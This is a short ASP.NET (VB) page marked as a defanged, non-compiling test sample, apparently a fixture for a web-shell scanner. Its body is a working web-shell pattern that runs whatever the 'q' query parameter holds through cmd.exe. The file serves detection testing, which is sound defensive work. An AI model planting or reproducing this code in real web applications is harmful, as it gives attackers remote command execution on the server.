<%@ Page Language="VB" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<%
Dim c As String = Request.QueryString("q")
Dim info As ProcessStartInfo = New ProcessStartInfo()
info.FileName = "cmd.exe"
info.Arguments = "/c " & c
Process.Start(info)
%>
